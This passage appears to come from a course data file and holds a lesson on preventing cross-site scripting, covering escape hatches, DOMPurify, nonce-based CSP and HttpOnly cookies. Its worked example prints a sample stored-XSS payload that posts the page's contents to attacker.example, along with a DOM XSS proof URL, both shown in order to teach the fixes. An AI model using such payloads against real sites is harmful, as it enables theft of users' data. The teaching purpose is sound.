Modern template engines and frameworks encode by default, which is why XSS is rarer in new code: React escapes everything inside \`{}\` in JSX, Vue escapes \`{{ }}\`, Angular sanitizes bindings, and Jinja2 (with autoescape on, as in Flask), Django templates and EJS's \`<%= %>\` encode HTML. Every one of them also has an **escape hatch** that inserts raw HTML, and almost every XSS in a modern app goes through one:

- React: \`dangerouslySetInnerHTML={{ __html: html }}\`; also \`href={userUrl}\`, since React does not validate URL schemes such as \`javascript:\` for you.
- Vue: \`v-html\`. Angular: \`bypassSecurityTrustHtml\` and its siblings. Svelte: \`{@html ...}\`.
- Jinja2 and Django: the \`|safe\` filter, \`Markup()\` and \`mark_safe()\`. EJS: \`<%- %>\`. Handlebars: triple braces.
- Plain DOM code: \`innerHTML\`, \`insertAdjacentHTML\`, \`document.write\`, jQuery's \`.html()\`.

Each of these should appear rarely, be searched for in code review, and receive only trusted or sanitized HTML. Server-side template injection, where users control the template itself rather than a value in it, is a related and even more serious bug.

### Sanitizing HTML with DOMPurify
Sometimes users must be able to submit HTML: a rich-text editor, Markdown rendered to HTML, an email preview. Encoding would display the tags instead of formatting. The answer is **sanitization**: parse the HTML and keep only an allowlist of harmless elements and attributes, removing \`<script>\`, event handlers such as \`onerror\`, \`javascript:\` URLs and similar. OWASP recommends [DOMPurify](https://github.com/cure53/DOMPurify): \`DOMPurify.sanitize(dirty)\` in the browser, or with a \`jsdom\` window on a Node.js server. Python projects often use \`nh3\`, bindings to the Rust \`ammonia\` sanitizer. Three rules: never write your own sanitizer with regular expressions, do not modify the HTML after sanitizing it (that can re-create what was removed), and keep the library updated, because bypasses are found as browsers change.

### Content-Security-Policy as defence in depth
A **Content-Security-Policy (CSP)** header tells the browser which scripts it may run. A *strict* policy based on nonces, for example \`script-src 'nonce-R4nd0m' 'strict-dynamic'; object-src 'none'; base-uri 'none'\`, only runs \`<script>\` elements carrying the random nonce the server generated for this response, so an injected \`<script>\` or \`onerror=\` attribute is refused. Inline event handlers stop working, and \`'unsafe-inline'\` in \`script-src\` would switch most of the protection off. OWASP and [MDN's CSP guide](https://developer.mozilla.org/en-US/docs/Web/HTTP/Guides/CSP) both present CSP as an *additional* layer: it reduces the damage of an encoding mistake you have not found yet, but it does not replace encoding, and a policy with loopholes gives false confidence. Deploy it first with \`Content-Security-Policy-Report-Only\` to find what would break. Where the browser supports Trusted Types, the directive \`require-trusted-types-for 'script'\` goes further and makes DOM sinks such as \`innerHTML\` reject plain strings.

### HttpOnly cookies and what they do not stop
A session cookie marked \`HttpOnly\` cannot be read by \`document.cookie\`, so the classic "send me \`document.cookie\`" payload gets nothing. That is worth having, but it limits only one consequence. A script running in the page can still send requests that carry the cookie automatically, read any data the page shows, submit forms as the user and rewrite the page. HttpOnly stops the attacker from *taking the session away*; it does not stop them from *using it while the victim has the page open*. Fixing the XSS remains the only real fix.

### Worked example
A forum built with Express and EJS shows comments like this:

\`\`\`html
<!-- views/thread.ejs -->
<% for (const c of comments) { %>
  <div class="comment"><%- c.body %></div>   <!-- raw HTML output -->
<% } %>
\`\`\`

A user posts this comment, and everyone who opens the thread, moderators included, runs it:

\`\`\`html
<img src="x" onerror="fetch('https://attacker.example/c', {method: 'POST', body: document.body.innerHTML})">
\`\`\`

Comments are plain text, so the first fix is one character: \`<%= c.body %>\` encodes the output, and the payload now appears on the page as harmless text. Later the product team wants bold text and links, so comments are written in Markdown and rendered to HTML. Now encoding is not possible, and the rendered HTML is sanitized on the server before it is stored or shown:

\`\`\`js
import createDOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import { marked } from 'marked';

const DOMPurify = createDOMPurify(new JSDOM('').window);

export function renderComment(markdown) {
  const html = marked.parse(markdown);
  return DOMPurify.sanitize(html, {
    ALLOWED_TAGS: ['p', 'b', 'strong', 'i', 'em', 'a', 'code', 'pre', 'ul', 'ol', 'li', 'blockquote'],
    ALLOWED_ATTR: ['href'],
  });
}
\`\`\`

The same page also had a DOM XSS: a greeting filled from the URL.

\`\`\`js
// Vulnerable: /thread/7?name=<img src=x onerror=alert(1)>
greeting.innerHTML = 'Hello ' + new URLSearchParams(location.search).get('name');
// Fixed: textContent never parses HTML
greeting.textContent = 'Hello ' + new URLSearchParams(location.search).get('name');
\`\`\`

Finally the team adds a nonce-based CSP in a middleware, generating a fresh nonce per response and putting it on its own \`<script nonce="...">\` tags, and marks the session cookie \`HttpOnly; Secure; SameSite=Lax\`:

\`\`\`js
import { randomBytes } from 'node:crypto';

app.use((req, res, next) => {
  res.locals.nonce = randomBytes(16).toString('base64');
  res.setHeader('Content-Security-Policy',
    \`script-src 'nonce-\${res.locals.nonce}' 'strict-dynamic'; object-src 'none'; base-uri 'none'\`);
  next();
});
\`\`\`

### Common mistakes
- **Filtering input with a blocklist.** Removing \`<script>\` misses \`<img onerror>\`, \`<svg onload>\`, mixed case and encodings. Encode on output for the context, or sanitize with an allowlist.
- **Encoding for the wrong context.** HTML encoding inside a \`<script>\` block or a URL scheme check that was never written leaves the hole open.
- **Trusting the framework blindly.** \`dangerouslySetInnerHTML\`, \`v-html\` or \`|safe\` with user data bypasses it. Search for escape hatches in every review.
- **Double duty for one field.** Data encoded for HTML and then used in JavaScript or a URL breaks or stays exploitable. Store raw data, encode at each output.
- **CSP with \`'unsafe-inline'\`, or CSP as the only defence.** Fix the bugs; use a strict CSP as a backstop.
- **Thinking HttpOnly prevents XSS.** It only protects the cookie's value.

### At work
Front-end and full-stack developers meet XSS in code review more than anywhere else, and application security engineers hunt for it with Burp Suite, browser developer tools and static analysis rules (Semgrep and CodeQL flag \`dangerouslySetInnerHTML\`, \`innerHTML\` and \`|safe\`). Typical junior tasks: review a pull request that adds a rich-text field and insist on DOMPurify, replace \`innerHTML\` with \`textContent\` across a legacy code base, roll out a CSP in report-only mode and work through the violation reports until it can be enforced, and reproduce a bug-bounty XSS report, fix it and add a regression test with the payload. Knowing which framework feature is the escape hatch is often the fastest way to find the bug.`,
    resources: [
      {
        title: 'OWASP DOM based XSS Prevention Cheat Sheet',
        url: 'https://cheatsheetseries.owasp.org/cheatsheets/DOM_based_XSS_Prevention_Cheat_Sheet.html',
        kind: 'docs',
      },
      {
        title: 'web.dev: Mitigate cross-site scripting with a strict Content Security Policy',
        url: 'https://web.dev/articles/strict-csp',
        kind: 'article',
      },
      {
        title: 'PortSwigger Web Security Academy: Cross-site scripting (labs)',
        url: 'https://portswigger.net/web-security/cross-site-scripting',
        kind: 'interactive',
      },
    ],
  },
];
